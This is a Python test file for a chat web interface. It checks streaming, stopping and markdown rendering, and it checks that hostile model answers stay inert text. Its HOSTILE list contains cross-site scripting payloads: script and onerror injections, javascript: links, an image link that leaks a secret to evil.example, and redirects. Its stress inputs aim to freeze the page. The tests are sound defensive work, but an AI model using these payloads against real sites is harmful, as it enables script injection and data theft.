"""The chat: answers stream, stop stops, and whatever a model says stays text."""

import asyncio
import base64

import pytest

from cmappy.errors import CliFailed
from cmappy.turn import Text

pytestmark = pytest.mark.anyio

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


async def test_answer_is_shown_while_it_is_written(cli, backend, looker):
    """The first words are there before the last are known."""
    go_on = asyncio.Event()
    first, *rest = cli.text("Hello", ", **world**!")[1:]
    backend.steps = [cli.start(), cli.text()[0], first, go_on, *rest, cli.stop()]

    await looker.ask("Hi")
    await looker.page.wait_for_selector("#talk .assistant .text:has-text('Hello')")
    running = await looker.page.is_enabled("#stop"), await looker.page.is_disabled("#send")
    go_on.set()

    assert (True, True) == running
    assert "Hello, world!" == await looker.answered()
    assert "world" == await looker.page.inner_text("#talk strong")
    assert [] == looker.said


async def test_stop_ends_the_turn(cli, backend, looker):
    """What was written stays, the CLI is told, and the next question can be asked."""
    backend.steps = [cli.start(), *cli.text("Once upon a time")[:2], asyncio.Event()]
    await looker.ask("Tell me a story")
    await looker.page.wait_for_selector("#talk .assistant .text:has-text('Once')")

    await looker.page.click("#stop")

    await backend.gone()
    assert ("Once upon a time", "Stopped.") == (await looker.answered(), await looker.page.inner_text("#said"))
    backend.steps = cli.answer("Hello")
    await looker.ask("Hi")
    await looker.page.wait_for_selector("#talk .assistant:last-child .text:has-text('Hello')")
    said = [message.content for message in backend.turns[-1].messages]
    assert [(Text("Tell me a story"),), (Text("Once upon a time"),), (Text("Hi"),)] == said


async def test_escape_stops_too(cli, backend, looker):
    """Whoever has no mouse."""
    backend.steps = [cli.start(), *cli.text("Once")[:2], asyncio.Event()]
    await looker.page.fill("#prompt", "Tell me a story")
    await looker.page.keyboard.press("Enter")
    await looker.page.wait_for_selector("#talk .assistant .text:has-text('Once')")

    await looker.page.keyboard.press("Escape")

    await backend.gone()


@pytest.mark.parametrize("stream", [True, False], ids=["stream", "plain"])
async def test_all_that_is_chosen_is_asked(backend, looker, stream):
    """Model, effort, system text, image, with a stream or without."""
    page = looker.page
    await page.select_option("#model", "opus")
    await page.select_option("#effort", "high")
    await page.set_checked("#stream", stream)
    await page.click("summary:has-text('System text')")
    await page.fill("#system", "Be brief.")
    await page.set_input_files("#image", {"name": "dot.png", "mimeType": "image/png", "buffer": PNG})
    await page.wait_for_selector("#preview img")

    await looker.ask("What is this?")

    assert "Hello, world!" == await looker.answered()
    [turn] = backend.turns
    assert ("Be brief.", "high") == (turn.system, turn.effort)
    [image, text] = turn.messages[0].content
    assert (True, Text("What is this?")) == (image.media_type == "image/png", text)
    assert await page.evaluate("document.querySelector('#talk .user img').naturalWidth") == 1


async def test_reasoning_is_shown_apart(cli, backend, looker):
    """It is no part of the answer, and is not sent back as one."""
    thinking = {"type": "thinking", "thinking": "", "signature": ""}
    backend.steps = [
        cli.start(),
        cli.event(type="content_block_start", index=0, content_block=thinking),
        cli.event(type="content_block_delta", index=0, delta={"type": "thinking_delta", "thinking": "<b>hm</b>"}),
        cli.event(type="content_block_stop", index=0),
        *cli.text("42"),
        cli.stop(),
    ]
    await looker.ask("What is 17 + 25?")

    assert "42" == await looker.answered()
    await looker.page.click("#talk summary:has-text('Reasoning')")
    assert "<b>hm</b>" == await looker.page.inner_text("#talk .thought div")


async def test_error_is_told_and_the_question_is_not_lost(backend, looker):
    """In the server's own words."""
    backend.steps = [CliFailed("The CLI <b>fell</b> over.")]

    await looker.ask("Hi")

    await looker.page.wait_for_selector("#talk .meta.bad")
    assert "The CLI <b>fell</b> over." in await looker.page.inner_text("#talk .meta")
    assert "Hi" == await looker.page.input_value("#prompt")


async def test_broken_answer_is_not_taken_for_a_short_one(cli, backend, looker):
    """The error comes after some text."""
    backend.steps = [cli.start(), *cli.text("Once")[:2], CliFailed("The connection was lost.")]

    await looker.ask("Hi")

    await looker.page.wait_for_selector("#talk .meta.bad")
    assert "The connection was lost." in await looker.page.inner_text("#said")


HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)",
    "[click](\x01javascript:window.hacked=1)",
    "[click](java\tscript:window.hacked=1)",
    "[click](data:text/html,<script>opener.hacked=1</script>)",
    "[click](vbscript:x) [click](file:///etc/passwd) [click](//evil.example) [click](/v1/models)",
    "![x](https://evil.example/leak?secret)",
    "![x](javascript:window.hacked=1)",
    '[x](https://a.example "onmouseover=window.hacked=1")',
    '[x](https://a.example/"onmouseover="window.hacked=1)',
    '<https://a.example/"><img src=x onerror=window.hacked=1>',
    '```html"><script>window.hacked=1</script>\n<script>window.hacked=1</script>\n```',
    "`<img src=x onerror=window.hacked=1>`",
    "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| <script>window.hacked=1</script> | c |",
    "# <img src=x onerror=window.hacked=1>\n> <script>window.hacked=1</script>\n- <style>*{display:none}</style>",
    "**[x](javascript:window.hacked=1)** ~~<b onclick=window.hacked=1>~~",
    "[[[x](javascript:a)](javascript:window.hacked=1)](javascript:b)",
    "</textarea></script></style><base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;",
    "[ref]: javascript:window.hacked=1\n[ref]",
    "<form action=//evil.example><button>x</button></form><a href=javascript:window.hacked=1>x</a>",
    "\u202e[moc.elpmaxe](https://evil.example)",
]
TAGS = "P DIV A CODE PRE STRONG EM S BR UL OL LI H4 BLOCKQUOTE HR TABLE THEAD TBODY TR TH TD"


async def test_hostile_answer_stays_text(cli, backend, looker):
    """No element but those of the renderer, no address but web addresses, nothing runs, nothing is fetched."""
    backend.steps = cli.answer(*(f"{each}\n\n" for each in HOSTILE))
    await looker.ask("Attack me")
    await looker.answered()
    page, asked = looker.page, len(looker.asked)

    found = await page.evaluate(
        """() => [...document.querySelectorAll("#talk .assistant .text *")].map((node) => [node.tagName,
             [...node.attributes].map((each) => each.name).sort().join(" ")])"""
    )
    links = await page.evaluate("[...document.querySelectorAll('#talk .text a')].map((a) => [a.protocol, a.rel])")

    assert set() == {tag for tag, _ in found} - set(TAGS.split())
    assert {"dir href rel target title"} == {names for tag, names in found if tag == "A"}
    assert {"", "tabindex", "class", "scope", "data-language tabindex", "aria-label class role tabindex"} >= {
        names for tag, names in found if tag != "A"
    }
    assert {("https:", "noopener noreferrer nofollow")} == set(map(tuple, links))
    assert (None, []) == (await page.evaluate("window.hacked ?? null"), looker.dialogs)
    assert [] == [url for url in looker.asked[asked:] if not url.startswith(page.url)]
    assert [] == looker.said
    text = await page.inner_text("#talk .assistant .text")
    assert ("window.hacked = 1</script>" in text, "<img src=x onerror='window.hacked = 1'>" in text) == (True, True)


async def test_hostile_answer_does_nothing_when_it_is_clicked(cli, backend, looker):
    """What looks like a link and is none stays text."""
    backend.steps = cli.answer("[click me](javascript:window.hacked=1)")
    await looker.ask("Attack me")
    await looker.answered()

    await looker.page.click("#talk .assistant .text :text('click me')")

    assert await looker.page.evaluate("window.hacked ?? null") is None
    assert 0 == await looker.page.locator("#talk a").count()


MARKDOWN = """\
# Title

A *word*, a **strong one**, `code`, ~~gone~~ and [a link](https://example.com/a_(b)?c=1#d).

1. one
2. two
   - deeper
   - still

3. three

- a

  more of a
- b

> quoted
> twice

```python
def f(x):
    return "<b>" * x
```

| a | b |
|---|--:|
| 1 | `2` |

---
snake_case_word and 2 * 3 * 4, see https://example.com/x.
"""
EXPECTED = (
    "<h4>Title</h4><p>A <em>word</em>, a <strong>strong one</strong>, <code>code</code>, <s>gone</s> and "
    "<a>a link</a>.</p><ol><li>one</li><li>two<ul><li>deeper</li><li>still</li></ul></li><li>three</li></ol>"
    "<ul><li>a<p>more of a</p></li><li>b</li></ul><blockquote><p>quoted\ntwice</p></blockquote>"
    '<pre><code>def f(x):\n    return "&lt;b&gt;" * x</code></pre><div><table><thead><tr><th>a</th><th>b</th></tr>'
    "</thead><tbody><tr><td>1</td><td><code>2</code></td></tr></tbody></table></div><hr>"
    "<p>snake_case_word and 2 * 3 * 4, see <a>https://example.com/x</a>.</p>"
)


@pytest.mark.parametrize("size", [1, 7, 10_000])
async def test_markdown_is_shown_as_it_is_meant(cli, backend, looker, size):
    """However it is cut into pieces."""
    backend.steps = cli.answer(*(MARKDOWN[at : at + size] for at in range(0, len(MARKDOWN), size)))
    await looker.ask("Show me")
    await looker.answered()

    html = await looker.page.evaluate(
        """() => { const copy = document.querySelector("#talk .assistant .text > div").cloneNode(true);
        for (const node of copy.querySelectorAll("*"))
          for (const each of [...node.attributes]) node.removeAttribute(each.name);
        return copy.innerHTML; }"""
    )
    assert EXPECTED == html
    assert ["https://example.com/a_(b)?c=1#d", "https://example.com/x"] == await looker.page.evaluate(
        "[...document.querySelectorAll('#talk .text a')].map((a) => a.href)"
    )


@pytest.mark.parametrize(
    "text",
    [
        "[" * 50_000,
        "*" * 50_000,
        "`" * 50_001,
        "> " * 25_000,
        "- " * 25_000,
        "_a" * 25_000,
        "![](" * 12_000,
        "|-" * 25_000,
    ],
    ids=["brackets", "stars", "ticks", "quotes", "lists", "underscores", "images", "tables"],
)
async def test_no_text_keeps_the_page_from_answering(cli, backend, looker, text):
    """Whatever a model writes, the page can be used while it is shown."""
    backend.steps = cli.answer(text, "\n\nthe end")
    await looker.ask("Attack me")

    assert (await looker.answered()).endswith("the end")


async def test_new_chat_begins_anew(backend, looker):
    """What was said before is not sent again."""
    await looker.ask("one")
    await looker.answered()
    await looker.page.click("#clear")
    await looker.ask("two")
    await looker.answered()

    assert [(Text("two"),)] == [message.content for message in backend.turns[-1].messages]
